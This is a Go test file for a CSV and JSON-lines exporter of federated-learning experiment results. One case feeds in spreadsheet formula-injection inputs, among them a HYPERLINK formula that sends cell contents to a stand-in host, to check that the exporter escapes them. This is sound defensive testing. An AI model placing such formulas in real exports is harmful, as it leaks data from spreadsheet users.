package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"math"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"fedbayes.dev/fedbayes/results"
	"fedbayes.dev/fedbayes/runinfo"
)

// exportRun is a run in memory with one row per metrics map, rounds from 1.
func exportRun(setting string, labels map[string]string, seed int64, rows ...map[string]float64) results.Run {
	r := results.Run{Meta: results.Meta{Setting: setting, Labels: labels, Seed: seed}}
	for i, m := range rows {
		r.Rows = append(r.Rows, results.Row{Round: i + 1, Metrics: m})
	}
	return r
}

func TestTidyCSVAndJSONL(t *testing.T) {
	nan, inf := math.NaN(), math.Inf(1)
	tests := []struct {
		name      string
		runs      []results.Run
		wantCSV   string
		wantJSONL string
		wantErr   string
	}{
		{
			name: "labels, seeds, rounds and metrics as columns",
			runs: []results.Run{
				exportRun("eaa", map[string]string{"rule": "eaa", "dataset": "digits"}, 1,
					map[string]float64{"zeta": 2, "nll": 0.5, "accuracy": 0.75}, map[string]float64{"nll": 0.25, "accuracy": 0.875}),
				exportRun("gaa", map[string]string{"rule": "gaa"}, 2, map[string]float64{"accuracy": 0.5, "ece": 0.125}),
			},
			wantCSV: "setting,dataset,rule,seed,round,accuracy,nll,ece,zeta\n" +
				"eaa,digits,eaa,1,1,0.75,0.5,,2\n" +
				"eaa,digits,eaa,1,2,0.875,0.25,,\n" +
				"gaa,,gaa,2,1,0.5,,0.125,\n",
			wantJSONL: `{"setting":"eaa","dataset":"digits","rule":"eaa","seed":1,"round":1,"accuracy":0.75,"nll":0.5,"ece":null,"zeta":2}` + "\n" +
				`{"setting":"eaa","dataset":"digits","rule":"eaa","seed":1,"round":2,"accuracy":0.875,"nll":0.25,"ece":null,"zeta":null}` + "\n" +
				`{"setting":"gaa","dataset":"","rule":"gaa","seed":2,"round":1,"accuracy":0.5,"nll":null,"ece":0.125,"zeta":null}` + "\n",
		},
		{
			name: "non-finite values are empty cells and null",
			runs: []results.Run{exportRun("x", nil, 3, map[string]float64{"accuracy": 0.1, "nll": nan, "loss": inf})},
			wantCSV: "setting,seed,round,accuracy,nll,loss\n" +
				"x,3,1,0.1,,\n",
			wantJSONL: `{"setting":"x","seed":3,"round":1,"accuracy":0.1,"nll":null,"loss":null}` + "\n",
		},
		{
			name: "a label with a comma or quote is quoted in CSV",
			runs: []results.Run{exportRun("s", map[string]string{"note": `a,"b"`}, 1, map[string]float64{"accuracy": 1})},
			wantCSV: "setting,note,seed,round,accuracy\n" +
				`s,"a,""b""",1,1,1` + "\n",
			wantJSONL: `{"setting":"s","note":"a,\"b\"","seed":1,"round":1,"accuracy":1}` + "\n",
		},
		{
			name: "a label named like a metric or a fixed column is label.NAME",
			runs: []results.Run{exportRun("lr-0.1", map[string]string{"lr": "0.1", "round": "r", "rule": "gaa"}, 1, map[string]float64{"accuracy": 1, "lr": 0.1})},
			wantCSV: "setting,label.lr,label.round,rule,seed,round,accuracy,lr\n" +
				"lr-0.1,0.1,r,gaa,1,1,1,0.1\n",
			wantJSONL: `{"setting":"lr-0.1","label.lr":"0.1","label.round":"r","rule":"gaa","seed":1,"round":1,"accuracy":1,"lr":0.1}` + "\n",
		},
		{
			name:    "label.NAME taken by another label",
			runs:    []results.Run{exportRun("s", map[string]string{"accuracy": "high", "label.accuracy": "x"}, 1, map[string]float64{"accuracy": 1})},
			wantErr: `two columns are named "label.accuracy"`,
		},
		{
			name: "formulas in setting names, labels and label names are text",
			runs: []results.Run{exportRun(`=HYPERLINK("http://x.example/?"&A1,"click")`, map[string]string{"@cmd": "+SUM(A1)", "tab": "\tx", "cr": "\rx", "neg": "-0.5", "minus": "-x"}, 1,
				map[string]float64{"accuracy": -1})},
			wantCSV: "setting,'@cmd,cr,minus,neg,tab,seed,round,accuracy\n" +
				`"'=HYPERLINK(""http://x.example/?""&A1,""click"")",'+SUM(A1),"'` + "\r" + `x",'-x,-0.5,'` + "\tx,1,1,-1\n",
			wantJSONL: `{"setting":"=HYPERLINK(\"http://x.example/?\"\u0026A1,\"click\")","@cmd":"+SUM(A1)","cr":"\rx","minus":"-x","neg":"-0.5","tab":"\tx","seed":1,"round":1,"accuracy":-1}` + "\n",
		},
		{
			name:      "no runs: the header alone",
			wantCSV:   "setting,seed,round\n",
			wantJSONL: "",
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tab, err := NewTidy(tc.runs)
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("error %v, want %q", err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			for format, want := range map[string]string{ExportCSV: tc.wantCSV, ExportJSONL: tc.wantJSONL} {
				var b bytes.Buffer
				if err := tab.Write(&b, format); err != nil {
					t.Fatal(err)
				}
				if b.String() != want {
					t.Errorf("%s:\n%s\nwant\n%s", format, b.String(), want)
				}
			}
		})
	}
	if err := (&Tidy{}).Write(&bytes.Buffer{}, "xlsx"); err == nil || !strings.Contains(err.Error(), `"xlsx" is not csv or jsonl`) {
		t.Errorf("unknown format: %v", err)
	}
}

// TestTidyFromDisk writes runs as the engine does (an infinite NLL included), loads them with Load and
// reads the CSV and JSON lines back: every (run, round) is one row, the +Inf an empty cell and null.
func TestTidyFromDisk(t *testing.T) {
	root := t.TempDir()
	for seed := int64(1); seed <= 2; seed++ {
		meta, err := results.NewMeta("eaa-iid", map[string]string{"rule": "eaa", "partition": "iid"}, seed, map[string]any{"rule": "eaa"}, runinfo.Info{Backend: "test"})
		if err != nil {
			t.Fatal(err)
		}
		w, err := results.Create(filepath.Join(root, results.RunName(meta.Setting, seed)), meta)
		if err != nil {
			t.Fatal(err)
		}
		for round := 1; round <= 3; round++ {
			nll := 1 / float64(round)
			if seed == 2 && round == 2 {
				nll = math.Inf(1) // possible in a completed run; a NaN is not
			}
			if err := w.Append(results.Row{Round: round, Metrics: map[string]float64{results.Accuracy: 0.5 + float64(round)/10 + float64(seed)/100, results.NLL: nll}}); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Complete(3); err != nil {
			t.Fatal(err)
		}
	}
	runs, skipped, err := results.Load(root)
	if err != nil || len(skipped) > 0 || len(runs) != 2 {
		t.Fatalf("Load: %d runs, skipped %v, %v", len(runs), skipped, err)
	}
	tab, err := NewTidy(runs)
	if err != nil {
		t.Fatal(err)
	}
	var c bytes.Buffer
	if err := tab.WriteCSV(&c); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&c).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	wantHeader := []string{"setting", "partition", "rule", "seed", "round", "accuracy", "nll"}
	if !reflect.DeepEqual(recs[0], wantHeader) || len(recs) != 7 {
		t.Fatalf("CSV header %v and %d lines, want %v and 7", recs[0], len(recs), wantHeader)
	}
	if got := recs[5]; !reflect.DeepEqual(got, []string{"eaa-iid", "iid", "eaa", "2", "2", "0.72", ""}) {
		t.Errorf("seed 2 round 2: %v", got)
	}
	var j bytes.Buffer
	if err := tab.WriteJSONL(&j); err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(&j)
	n := 0
	for dec.More() {
		var obj map[string]any
		if err := dec.Decode(&obj); err != nil {
			t.Fatal(err)
		}
		n++
		if n == 5 && (obj["nll"] != nil || obj["seed"] != 2.0 || obj["round"] != 2.0) {
			t.Errorf("line 5: %v, want seed 2, round 2, nll null", obj)
		}
	}
	if n != 6 {
		t.Errorf("%d JSON lines, want 6", n)
	}
}
